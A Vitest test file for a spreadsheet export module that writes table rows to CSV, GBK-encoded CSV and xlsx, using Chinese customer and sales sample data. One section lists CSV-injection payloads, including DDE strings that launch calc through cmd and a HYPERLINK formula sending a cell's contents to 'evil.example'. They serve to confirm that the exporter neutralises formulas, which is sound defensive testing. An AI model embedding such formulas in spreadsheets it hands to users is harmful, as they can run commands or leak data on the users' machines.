import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { DataTableColumn } from 'mantine-datatable';
import { createElement } from 'react';
import { encodeGbk } from '../../src-renderer/lib/gbk';
import {
  collectPages,
  columnsForExport,
  exportCells,
  FORMULA_CELL,
  toCsv,
  toCsvGbk,
  toXlsx,
  type ExportColumn,
} from '../../src-renderer/lib/export';

interface Row {
  code: string;
  name: string;
  amount: number | null;
  vip: boolean;
}

const columns: ExportColumn<Row>[] = [
  { title: '客户编号', value: (r) => r.code },
  { title: '客户名称', value: (r) => r.name },
  { title: '金额', value: (r) => r.amount },
  { title: '重点客户', value: (r) => r.vip },
];
const rows: Row[] = [
  { code: 'C000001', name: '北京华信科技有限公司', amount: 1234.5, vip: true },
  { code: 'C000002', name: 'Acme, "Ltd"\n第二行', amount: null, vip: false },
];

describe('exporting a table', () => {
  it('writes CSV that Excel opens as UTF-8 and that reads back cell for cell', () => {
    const csv = toCsv(columns, rows);
    expect(csv.startsWith('\uFEFF客户编号,客户名称,金额,重点客户\r\n')).toBe(true);
    const parsed = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' }).data;
    expect(parsed).toEqual([
      ['客户编号', '客户名称', '金额', '重点客户'],
      ['C000001', '北京华信科技有限公司', '1234.5', '1'],
      ['C000002', 'Acme, "Ltd"\n第二行', '', '0'],
    ]);
  });

  it('writes an xlsx workbook whose sheet holds the same cells, numbers as numbers', async () => {
    const data = await toXlsx(columns, rows, '客户: 全部/2026');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(data);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('客户  全部 2026');
    const values = sheet
      .getSheetValues()
      .slice(1)
      .map((r) => (r as unknown[]).slice(1));
    expect(values).toEqual([
      ['客户编号', '客户名称', '金额', '重点客户'],
      ['C000001', '北京华信科技有限公司', 1234.5, 1],
      ['C000002', 'Acme, "Ltd"\n第二行', '', 0],
    ]);
    expect(sheet.getRow(1).font?.bold).toBe(true);
  });

  it('turns empty values into empty cells and keeps the column order', () => {
    expect(exportCells(columns, [])).toEqual([['客户编号', '客户名称', '金额', '重点客户']]);
  });

  it('collects every page of a list, stopping at the total', async () => {
    const all = Array.from({ length: 450 }, (_, i) => i);
    const asked: number[] = [];
    const progress: number[] = [];
    const got = await collectPages(
      async (page, pageSize) => {
        asked.push(page);
        return { rows: all.slice((page - 1) * pageSize, page * pageSize), total: all.length };
      },
      (done) => progress.push(done),
    );
    expect(got).toEqual(all);
    expect(asked).toEqual([1, 2, 3]);
    expect(progress).toEqual([200, 400, 450]);
  });
});

/** The classic CSV-injection payloads, and a few more that slip past a pattern with `.*$`. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example/?d="&A1,"点这里")',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+1\n第二行',
  '+86 138-0013-8000 x',
];

interface Cell {
  text: string | number;
}
const one: ExportColumn<Cell>[] = [{ title: '内容', value: (r) => r.text }];

describe('exporting text a spreadsheet would run', () => {
  it('writes each formula payload to CSV as text: an apostrophe first, in quotes', () => {
    const csv = toCsv(
      one,
      payloads.map((text) => ({ text })),
    );
    const cells = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' })
      .data.slice(1)
      .map((r) => r[0]);
    expect(cells).toEqual(payloads.map((p) => `'${p}`));
    for (const p of payloads) expect(csv).toContain(`"'${p.replace(/"/g, '""')}"`);
  });

  it('leaves numbers, signed figures as text, ordinary text and Chinese exactly as they are', () => {
    const plain: (string | number)[] = [
      -5,
      0,
      12.5,
      '-5',
      '+3.5%',
      '-1,234.50',
      '-12.5%',
      '北京华信科技有限公司',
      'a=b',
      "O'Brien",
      ' 5',
    ];
    const csv = toCsv(
      one,
      plain.map((text) => ({ text })),
    );
    expect(csv.split('\r\n').slice(1, 8)).toEqual([
      '-5',
      '0',
      '12.5',
      '-5',
      '+3.5%',
      '"-1,234.50"',
      '-12.5%',
    ]);
    const cells = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' })
      .data.slice(1)
      .map((r) => r[0]);
    expect(cells).toEqual(plain.map(String));
    expect(csv.startsWith('\uFEFF内容\r\n')).toBe(true);
  });

  it('keeps the pattern to the start of the cell, on any line count', () => {
    expect(FORMULA_CELL.test('=1')).toBe(true);
    expect(FORMULA_CELL.test('x\n=1')).toBe(false);
    expect(FORMULA_CELL.test('-')).toBe(true);
    expect(FORMULA_CELL.test('-5')).toBe(false);
    expect(FORMULA_CELL.test('-5-5')).toBe(true);
  });

  it('writes them to xlsx as plain text cells, never formulas, unchanged; numbers stay numbers', async () => {
    const values: (string | number)[] = [...payloads, -5, '-5', '北京华信科技有限公司'];
    const data = await toXlsx(
      one,
      values.map((text) => ({ text })),
      '导出',
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(data);
    const sheet = book.worksheets[0]!;
    values.forEach((v, i) => {
      const cell = sheet.getCell(i + 2, 1);
      expect(cell.formula, String(v)).toBeUndefined();
      expect(cell.type, String(v)).toBe(
        typeof v === 'number' ? ExcelJS.ValueType.Number : ExcelJS.ValueType.String,
      );
      // XML reads a carriage return in text as a line feed; the cell stays text all the same.
      expect(cell.value).toBe(typeof v === 'string' ? v.replace(/\r/g, '\n') : v);
    });
  });
});

describe('a list’s export columns', () => {
  interface Sale {
    code: string;
    status: 'paid' | 'draft';
    amount: number;
    note: string | null;
  }
  const Badge = (_: { status: string }) => null;
  const columns: DataTableColumn<Sale>[] = [
    {
      accessor: 'code',
      title: '订单号',
      render: (r) => createElement('a', { href: `/sales/${r.code}` }, r.code),
    },
    { accessor: 'status', title: '状态', render: (r) => createElement(Badge, { status: r.status }) },
    { accessor: 'amount', title: '金额', render: (r) => `¥${(r.amount / 100).toFixed(2)}` },
    { accessor: 'note', title: '备注' },
    { accessor: 'hiddenOne', title: '隐藏', hidden: true },
  ];
  const rows: Sale[] = [{ code: 'SO000001', status: 'paid', amount: 123456, note: null }];

  it('takes the screen’s headings and text, leaving hidden columns out', () => {
    expect(exportCells(columnsForExport(columns), rows)).toEqual([
      ['订单号', '状态', '金额', '备注'],
      // A badge drawn by a component has no text to read.
      ['SO000001', '', '¥1234.56', ''],
    ]);
  });

  it('takes a column’s export value where one is given', () => {
    const cols = columnsForExport(columns, {
      status: (r) => (r.status === 'paid' ? '已收款' : '草稿'),
      amount: (r) => r.amount / 100,
    });
    expect(exportCells(cols, rows)).toEqual([
      ['订单号', '状态', '金额', '备注'],
      ['SO000001', '已收款', 1234.56, ''],
    ]);
  });
});

describe('exporting CSV in GBK', () => {
  it('writes every GBK character as iconv-lite does, and what GBK cannot hold as ?', () => {
    // Common and rare characters (喆 and 镕 are in GBK, not GB2312), full-width punctuation, ¥.
    const text = '北京华信科技有限公司，喆镕（测试）；￥1,234.50 abc\r\n';
    expect(Buffer.from(encodeGbk(text))).toEqual(iconv.encode(text, 'gbk'));
    expect(iconv.decode(Buffer.from(encodeGbk(text)), 'gbk')).toBe(text);
    // An emoji and a CJK extension B character have no GBK code.
    expect(iconv.decode(Buffer.from(encodeGbk('茶😀𠀀')), 'gbk')).toBe('茶??');
  });

  it('writes the same CSV as UTF-8 does, without a BOM, readable as GBK', () => {
    const columns: ExportColumn<string[]>[] = [
      { title: '客户名称', value: (r) => r[0] },
      { title: '备注', value: (r) => r[1] },
    ];
    const rows = [
      ['北京华信科技有限公司', '=1+1'],
      ['杭州西湖茶业', '含,逗号'],
    ];
    const bytes = Buffer.from(toCsvGbk(columns, rows));
    expect(bytes[0]).not.toBe(0xef);
    expect(iconv.decode(bytes, 'gbk')).toBe(toCsv(columns, rows).slice(1));
  });
});
